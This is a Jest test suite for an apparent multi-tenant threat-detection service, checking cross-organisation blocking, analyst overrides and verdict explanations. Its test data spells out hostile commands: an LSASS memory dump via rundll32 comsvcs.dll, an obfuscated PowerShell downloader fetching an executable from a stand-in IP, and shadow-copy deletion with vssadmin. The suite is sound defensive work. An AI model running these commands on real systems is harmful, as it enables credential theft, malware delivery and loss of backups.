import { beforeAll, describe, expect, test } from '@jest/globals';
import { createHash, randomUUID } from 'node:crypto';
import type { ReportInput } from '../../contracts/report.ts';
import {
  call,
  createTenant,
  enrollDevice,
  itemsSchema,
  reportOf,
  send,
  type TestDevice,
  type TestTenant,
} from '../support/api.ts';
import { eventually } from '../support/eventually.ts';
import { detonationJob } from './detonation-job.ts';
import { policyJob } from './policy-job.ts';
import { sampleJob } from './sample-job.ts';

/** Something that answers on one address, whatever it stands on. */
export interface Subject {
  readonly url: string;
  readonly operatorToken: string;
}

/** What the service is there for, over its real interfaces. @param start may be called by several suites */
export function mainJob(start: () => Promise<Subject>): void {
  let service: Subject;
  const tenants: Record<string, TestTenant> = {};
  const devices: Record<string, TestDevice> = {};

  beforeAll(async () => {
    service = await start();
    for (const name of ['alpha', 'beta', 'gamma']) {
      const tenant = await createTenant(
        service.url,
        service.operatorToken,
        name,
        name === 'gamma' ? 'new' : 'established',
      );
      tenants[name] = tenant;
      for (const n of [1, 2])
        devices[`${name}-${n}`] = await enrollDevice(service.url, tenant.enrollmentKey, `${name}-${n}`);
    }
  }, 600_000);

  const tenant = (name: string): TestTenant => tenants[name] ?? fail(name);
  const device = (name: string): TestDevice => devices[name] ?? fail(name);
  function fail(name: string): never {
    throw new Error(`There is no ${name}.`);
  }
  const admin = (name: string, path: string, options = {}) =>
    call(service.url, path, { token: tenant(name).adminToken, ...options });
  const unique = randomUUID().slice(0, 8);
  const hostile = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Users\\Public\\${unique}.dmp full`;
  const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

  /** What is in force for a device, as it would hear from the snapshot. */
  async function snapshot(
    name: string,
  ): Promise<readonly { key: string; reach?: string; action: string; source: string }[]> {
    const { text } = await call(service.url, '/v1/snapshot', { token: device(name).credential });
    return text
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => JSON.parse(line) as { key: string; action: string; source: string; end?: unknown })
      .filter((line) => line.end === undefined);
  }

  const lookup = async (name: string, key: string) => {
    const { body } = await call(service.url, '/v1/lookups', {
      token: device(name).credential,
      json: { keys: [key] },
    });
    return (body as { results: { verdict: string | null; action: string | null }[] }).results[0];
  };

  /** Instances learn within moments of each other: what they agree on is what holds several times in turn. */
  async function everywhere(check: () => Promise<void>): Promise<void> {
    await eventually(async () => {
      try {
        for (let turn = 0; turn < 4; turn += 1) await check();
        return true;
      } catch {
        return null;
      }
    });
    await check();
  }

  describe('the main job', () => {
    test('a hostile command line on one device blocks it at every organization, on its content', async () => {
      const [result] = await send(
        service.url,
        device('alpha-1'),
        [reportOf({ artifact: { kind: 'command-line', text: hostile }, localAction: 'held' })],
        10,
      );
      expect(result).toMatchObject({
        verdict: 'malicious',
        entry: { reach: 'ecosystem', action: 'block', reason: { code: 'content-evidence' } },
      });
      const key = result?.artifact ?? '';
      for (const name of ['alpha-2', 'beta-1', 'gamma-1']) {
        await eventually(async () =>
          (await snapshot(name)).some((entry) => entry.key === key) ? true : null,
        );
        await everywhere(async () => {
          expect(await lookup(name, key)).toMatchObject({ verdict: 'malicious', action: 'block' });
        });
      }
    });

    test('the same command typed with other spacing is known, and blocked before it runs', async () => {
      const [result] = await send(service.url, device('gamma-2'), [
        reportOf({ artifact: { kind: 'command-line', text: hostile.replaceAll(' ', '   ') } }),
      ]);
      expect(result).toMatchObject({ status: 'known', verdict: 'malicious' });
    });

    test('harmless commands are answered with no threats found', async () => {
      for (const text of [
        'ipconfig /all',
        'certutil -hashfile C:\\Temp\\setup.msi SHA256',
        'notepad.exe C:\\Users\\ann\\notes.txt',
      ]) {
        const [result] = await send(
          service.url,
          device('beta-1'),
          [reportOf({ artifact: { kind: 'command-line', text } })],
          10,
        );
        expect(result).toMatchObject({ verdict: 'no-threats-found' });
      }
    });

    test('a hostile script on one device blocks it at every organization, an ordinary one runs', async () => {
      const script = (text: string) =>
        reportOf({
          artifact: { kind: 'script', text },
          detectionSource: 'script-scan',
          localAction: 'held',
          file: { name: 'update.ps1' },
        });
      const loader = `$p = "$env:APPDATA\\${unique}.exe"; (New-Object Net.WebClient).('Down'+'loadFile').Invoke('http://203.0.113.8/${unique}.exe', $p); Start-Process $p`;
      const [hostileResult] = await send(service.url, device('alpha-1'), [script(loader)], 10);
      expect(hostileResult).toMatchObject({
        verdict: 'malicious',
        entry: {
          reach: 'ecosystem',
          action: 'block',
          threatName: expect.stringMatching(/^Trojan:PowerShell\/[A-Za-z]+\.A!ml$/),
          reason: { code: 'content-evidence' },
        },
      });
      await everywhere(async () => {
        expect(await lookup('gamma-1', hostileResult?.artifact ?? '')).toMatchObject({ action: 'block' });
      });
      const ordinary = `Get-ADUser -Filter * | Export-Csv C:\\Reports\\${unique}.csv # IEX nothing`;
      const [ordinaryResult] = await send(service.url, device('beta-1'), [script(ordinary)], 10);
      expect(ordinaryResult).toMatchObject({ verdict: 'no-threats-found' });
    });

    test('a file that was let run is reopened by what its process did, and crosses once a second established organization saw it', async () => {
      const hash = { sha256: sha256(`dropper ${unique}`) };
      const image = {
        executable: 'C:\\Users\\ann\\Downloads\\invoice.exe',
        entity_id: 'boot:1:1',
        pid: 4242,
        hash,
      };
      const file: Pick<ReportInput, 'artifact'> & Partial<ReportInput> = {
        artifact: { kind: 'file', hash },
        file: { name: 'invoice.exe', size: 184_320 },
        localAction: 'allowed',
      };
      const [first] = await send(service.url, device('alpha-1'), [reportOf(file)], 10);
      expect(first?.verdict).toBe('no-threats-found');
      const key = first?.artifact ?? '';
      const misbehave = (name: string) =>
        send(
          service.url,
          device(name),
          [
            reportOf({
              artifact: { kind: 'command-line', text: `vssadmin.exe delete shadows /all /quiet ${name}` },
              process: { ...image, parent: { executable: 'C:\\Windows\\explorer.exe' } },
              localAction: 'allowed',
            }),
          ],
          10,
        );

      await misbehave('alpha-1');
      await eventually(async () => ((await lookup('alpha-2', key))?.verdict === 'malicious' ? true : null));
      expect((await lookup('gamma-1', key))?.verdict).toBeNull();

      await send(service.url, device('beta-1'), [reportOf(file)], 10);
      await misbehave('beta-1');
      await eventually(async () => ((await lookup('gamma-1', key))?.verdict === 'malicious' ? true : null));
      // Whoever answers look-ups and whoever serves the stream may be two, and one of them a moment behind.
      const entries = await eventually(async () => {
        const held = await snapshot('gamma-1');
        return held.some((entry) => entry.key === key) ? held : null;
      });
      expect(entries.find((entry) => entry.key === key)).toMatchObject({
        reach: 'ecosystem',
        action: 'block-and-remediate',
      });
      expect(JSON.stringify(entries)).not.toContain(tenant('alpha').id);
    });

    test('a name that a program computed is told and blocked by nobody, until something condemned contacts it', async () => {
      const domain = `${[...sha256(unique)]
        .map((digit) => 'qxkvjtrwplzmfhbg'.charAt(Number.parseInt(digit, 16)))
        .join('')
        .slice(0, 18)}.com`;
      const [told] = await send(
        service.url,
        device('alpha-1'),
        [reportOf({ artifact: { kind: 'domain', value: domain }, detectionSource: 'network-protection' })],
        10,
      );
      expect(told).toMatchObject({ verdict: 'suspicious', entry: { action: 'audit', reach: 'tenant' } });
      const key = told?.artifact ?? '';
      await everywhere(async () => expect(await lookup('alpha-2', key)).toMatchObject({ action: 'audit' }));

      await send(
        service.url,
        device('alpha-1'),
        [
          reportOf({
            artifact: { kind: 'command-line', text: `vssadmin.exe delete shadows /all /quiet ${domain}` },
            destination: { domain },
            localAction: 'allowed',
          }),
        ],
        10,
      );
      await eventually(async () => ((await lookup('alpha-2', key))?.verdict === 'malicious' ? true : null));
      await everywhere(async () => expect((await lookup('alpha-2', key))?.action).toBe('block'));
      expect((await lookup('beta-1', key))?.verdict).toBeNull();
    });

    test('an analyst reads why: terms that add up, scores, steps', async () => {
      const history = await eventually(async () => {
        const { items } = itemsSchema.parse(
          (await admin('alpha', '/v1/verdicts?verdict=malicious&kind=command-line')).body,
        );
        return items.length > 0 ? items : null;
      });
      const { id, revision } = history.find((item) => item['reach'] === 'ecosystem') ?? {};
      const { status, body } = await admin(
        'alpha',
        `/v1/verdicts/${String(id)}/revisions/${String(revision)}`,
      );
      expect(status).toBe(200);
      const view = body as {
        terms: { micronats: number }[];
        sumMicronats: number;
        sumText: string;
        scores: unknown[];
      };
      expect(view.terms.reduce((sum, { micronats }) => sum + micronats, 0)).toBe(view.sumMicronats);
      expect(view.sumText).toContain('probability');
      expect(view.scores.length).toBeGreaterThan(0);
    });

    test('an analyst’s allow takes the block back in its organization alone, at once, and outlives later reports', async () => {
      const [known] = await send(service.url, device('alpha-1'), [
        reportOf({ artifact: { kind: 'command-line', text: hostile } }),
      ]);
      const key = known?.artifact ?? '';
      const created = await admin('alpha', `/v1/artifacts/${encodeURIComponent(key)}/overrides`, {
        json: { action: 'allow', comment: 'our own crash collector' },
      });
      expect(created.status).toBe(201);
      await everywhere(async () => expect((await lookup('alpha-2', key))?.action).not.toBe('block'));
      expect((await lookup('beta-1', key))?.action).toBe('block');
      await send(
        service.url,
        device('alpha-2'),
        [reportOf({ artifact: { kind: 'command-line', text: hostile } })],
        5,
      );
      expect((await lookup('alpha-1', key))?.action).not.toBe('block');
      const audit = itemsSchema.parse((await admin('alpha', '/v1/audit-log')).body);
      expect(JSON.stringify(audit.items)).toContain('our own crash collector');
    });

    sampleJob({ url: () => service.url, device, tenant, lookup });
    detonationJob({ url: () => service.url, device, tenant, lookup });

    test('one tenant’s testimony never blocks elsewhere, whatever it claims', async () => {
      const hash = { sha256: sha256(`harmless tool ${unique}`) };
      for (let round = 0; round < 5; round += 1) {
        await send(
          service.url,
          device('gamma-1'),
          [
            reportOf({
              artifact: {
                kind: 'command-line',
                text: `vssadmin.exe delete shadows /all /quiet /for=${round}`,
              },
              process: {
                executable: 'C:\\Program Files\\Tool\\tool.exe',
                entity_id: `boot:9:${round}`,
                hash,
              },
              localAction: 'allowed',
            }),
          ],
          10,
        );
      }
      const key = `file:sha256:${hash.sha256}`;
      await eventually(async () => ((await lookup('gamma-1', key))?.verdict === 'malicious' ? true : null));
      expect((await lookup('alpha-1', key))?.verdict).toBeNull();
      expect((await lookup('beta-1', key))?.verdict).toBeNull();
    });
  });

  policyJob(() => service);
}
